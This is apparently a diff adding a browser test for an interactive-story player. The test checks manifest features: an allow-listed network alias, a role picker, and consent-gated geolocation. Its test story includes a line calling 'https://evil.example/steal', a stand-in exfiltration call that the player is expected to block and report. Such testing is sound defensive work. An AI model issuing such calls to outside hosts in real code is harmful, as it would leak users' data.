@@ -1,0 +1,234 @@
+/**
+ * The other reader-facing manifest fields, on a package built here and opened from a file in Chromium against the
+ * real server: `allowed_urls` (a listed alias reaches its address through the `net` host namespace, anything else is
+ * blocked and reported), `sensors` (a consent prompt; nothing requested without a tick), `preview`, `offline`,
+ * `accessibility`, `readers` with `solo_mode: single_role` (the role asked and injected).
+ */
+import { crc32 } from 'node:zlib'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { launchBrowser, noBrowser, type StartedPlayer, screenshot, startPlayer } from './harness'
+
+let player: StartedPlayer
+let browser: Browser
+
+beforeAll(async () => {
+  if (noBrowser) return
+  ;[player, browser] = await Promise.all([startPlayer(), launchBrowser()])
+}, 180_000)
+
+afterAll(async () => {
+  await browser?.close()
+  await player?.close()
+})
+
+/** A ZIP of stored entries (what a packer writes, without compression). */
+function zip(files: Record<string, string>): Buffer {
+  const locals: Buffer[] = []
+  const centrals: Buffer[] = []
+  let offset = 0
+  for (const [name, content] of Object.entries(files)) {
+    const data = Buffer.from(content, 'utf8')
+    const nameBytes = Buffer.from(name, 'utf8')
+    const crc = crc32(data) >>> 0
+    const local = Buffer.alloc(30)
+    local.writeUInt32LE(0x04034b50, 0)
+    local.writeUInt16LE(20, 4)
+    local.writeUInt16LE(0x0800, 6)
+    local.writeUInt32LE(crc, 14)
+    local.writeUInt32LE(data.length, 18)
+    local.writeUInt32LE(data.length, 22)
+    local.writeUInt16LE(nameBytes.length, 26)
+    const central = Buffer.alloc(46)
+    central.writeUInt32LE(0x02014b50, 0)
+    central.writeUInt16LE(20, 4)
+    central.writeUInt16LE(20, 6)
+    central.writeUInt16LE(0x0800, 8)
+    central.writeUInt32LE(crc, 16)
+    central.writeUInt32LE(data.length, 20)
+    central.writeUInt32LE(data.length, 24)
+    central.writeUInt16LE(nameBytes.length, 28)
+    central.writeUInt32LE(offset, 42)
+    locals.push(local, nameBytes, data)
+    centrals.push(central, nameBytes)
+    offset += 30 + nameBytes.length + data.length
+  }
+  const cd = Buffer.concat(centrals)
+  const end = Buffer.alloc(22)
+  end.writeUInt32LE(0x06054b50, 0)
+  const n = Object.keys(files).length
+  end.writeUInt16LE(n, 8)
+  end.writeUInt16LE(n, 10)
+  end.writeUInt32LE(cd.length, 12)
+  end.writeUInt32LE(offset, 16)
+  return Buffer.concat([...locals, cd, end])
+}
+
+/** The test story: reaches one allowed alias and one that is not, says which reader you are. */
+function signalPackage(apiBase: string): Buffer {
+  return zip({
+    'manifest.json': JSON.stringify({
+      id: '0b0b7f3e-5d0c-4a51-9a0e-6f1e2d3c4b5a',
+      title: 'Signal Test',
+      parts: ['story/0001-signal.sty'],
+      requires: ['net', 'sensors'],
+      allowed_urls: [{ alias: 'health', url: `${apiBase}/api/health`, params: { probe: 'player' } }],
+      preview: true,
+      offline: true,
+      accessibility: ['screen-reader', 'no_timers'],
+      readers: [1, 2, 3],
+      solo_mode: 'single_role',
+      sensors: ['geolocation', 'thermometer'],
+    }),
+    'extensions/host.xty': [
+      '{extern net.send(alias)}',
+      '{extern net.allowed(alias)}',
+      '{extern sensors.read(name)}',
+      '',
+    ].join('\n'),
+    'story/0001-signal.sty': [
+      '{use host}',
+      '{set reader_role = 0}',
+      '# Signals [#start]',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the story language's interpolation
+      'You are reader ${reader_role}.',
+      '{call net.send("health")}',
+      '{call net.send("https://evil.example/steal")}',
+      '* Check the line [#check]',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the story language's interpolation
+      '  Health listed: ${net.allowed("health")}; evil listed: ${net.allowed("evil")}; location: ${sensors.read("geolocation")}.',
+      '  -> END',
+      '',
+    ].join('\n'),
+  })
+}
+
+/** Counts the page's calls to the geolocation API (a sensor must not be touched without consent). */
+async function countGeolocation(page: Page) {
+  await page.addInitScript(() => {
+    const w = window as unknown as { geoCalls: number }
+    w.geoCalls = 0
+    const geo = navigator.geolocation
+    const watch = geo.watchPosition.bind(geo)
+    geo.watchPosition = (...args: Parameters<typeof watch>) => {
+      w.geoCalls++
+      return watch(...args)
+    }
+  })
+}
+
+async function openSignal(page: Page) {
+  await page.goto(`${player.url}#/open`)
+  await page.setInputFiles('#open-file', {
+    name: 'signal.spkg',
+    mimeType: 'application/zip',
+    buffer: signalPackage(player.apiBase),
+  })
+  await page.waitForSelector('.envelope')
+}
+
+describe.skipIf(noBrowser)('player features: reader-facing manifest fields', () => {
+  it('notes the fields on the envelope and the play view, asks the role and the sensors, guards the network', async () => {
+    const context = await browser.newContext()
+    const page = await context.newPage()
+    await countGeolocation(page)
+    const requests: string[] = []
+    page.on('request', (r) => requests.push(r.url()))
+    await openSignal(page)
+
+    const notes = await page
+      .locator('.feature-notes li')
+      .evaluateAll((els) => els.map((e) => [(e as HTMLElement).dataset.note, e.textContent ?? '']))
+    expect(notes.map(([k]) => k)).toEqual([
+      'preview',
+      'cooperative',
+      'offline',
+      'accessibility',
+      'network',
+      'sensors',
+    ])
+    const text = Object.fromEntries(notes)
+    expect(text.cooperative).toContain('1–3 readers')
+    expect(text.cooperative).toContain('Each reader plays one role')
+    expect(text.accessibility).toContain('screen reader, no timers')
+    expect(text.network).toContain('(“health”)')
+    expect(text.sensors).toContain('your location, thermometer')
+
+    await page.click('text=Start reading')
+    await page.waitForSelector('.start-form')
+    expect((await page.locator('.start-role').allInnerTexts()).map((t) => t.trim())).toEqual([
+      'Reader 1',
+      'Reader 2',
+      'Reader 3',
+    ])
+    expect(await page.locator('.start-sensors').innerText()).toContain(
+      'Not offered by this player: thermometer',
+    )
+    expect(await page.locator('.start-sensor input').isChecked()).toBe(false)
+    await screenshot(page, 'features-start-form')
+    await page.check('.start-role input[value="2"]')
+    await page.click('.start-form button[type="submit"]')
+    await page.waitForSelector('.choices button')
+    expect(await page.locator('.transcript').innerText()).toContain('You are reader 2.')
+
+    // The badges in the play view.
+    expect(
+      await page
+        .locator('.play-badges .feature-badge')
+        .evaluateAll((els) => els.map((e) => (e as HTMLElement).dataset.note)),
+    ).toEqual(['preview', 'cooperative', 'offline', 'accessibility', 'network', 'sensors'])
+    expect(await page.locator('.play-badges [data-note="preview"]').innerText()).toContain('Sample')
+
+    // The listed alias reached its address (with its declared parameter); the address the story named was blocked.
+    await page.waitForSelector('.net-log li[data-outcome="done"]', { state: 'attached' })
+    await page.click('.net-log summary')
+    expect(requests.filter((u) => u.includes('/api/health?'))).toEqual([
+      `${player.apiBase}/api/health?probe=player`,
+    ])
+    expect(requests.some((u) => u.includes('evil.example'))).toBe(false)
+    expect(await page.locator('.net-alert').innerText()).toContain('“https://evil.example/steal”')
+    expect(await page.locator('.net-log li[data-outcome="blocked"]').innerText()).toContain(
+      'net/unknown-alias',
+    )
+
+    await page.click('.choices button:has-text("Check the line")')
+    await page.waitForSelector('.the-end')
+    expect(await page.locator('.transcript').innerText()).toContain(
+      'Health listed: true; evil listed: false; location: false.',
+    )
+    // No consent, no sensor: the geolocation API was never called.
+    expect(await page.evaluate(() => (window as unknown as { geoCalls: number }).geoCalls)).toBe(0)
+    await screenshot(page, 'features-network')
+    await context.close()
+  })
+
+  it('starts a sensor only once the reader ticks it', async () => {
+    const context = await browser.newContext({
+      permissions: ['geolocation'],
+      geolocation: { latitude: 59.9139, longitude: 10.7522, accuracy: 12 },
+    })
+    const page = await context.newPage()
+    await countGeolocation(page)
+    await openSignal(page)
+    await page.click('text=Start reading')
+    await page.waitForSelector('.start-form')
+    expect(await page.evaluate(() => (window as unknown as { geoCalls: number }).geoCalls)).toBe(0)
+    await page.check('.start-sensor input[value="geolocation"]')
+    await page.click('.start-form button[type="submit"]')
+    await page.waitForSelector('.choices button')
+    expect(await page.evaluate(() => (window as unknown as { geoCalls: number }).geoCalls)).toBe(1)
+    await page.click('.choices button:has-text("Check the line")')
+    await page.waitForSelector('.the-end')
+    expect(await page.locator('.transcript').innerText()).toContain(
+      'location: {"lat":59.9139,"lon":10.7522,"accuracy":12}.',
+    )
+    // The player's cancel button leaves the story unstarted.
+    await page.click('text=Start again')
+    await page.waitForSelector('.start-form')
+    await page.click('.start-cancel')
+    await page.waitForFunction(
+      () => document.querySelector('.play-status')?.textContent === 'The story was not started.',
+    )
+    await context.close()
+  })
+})
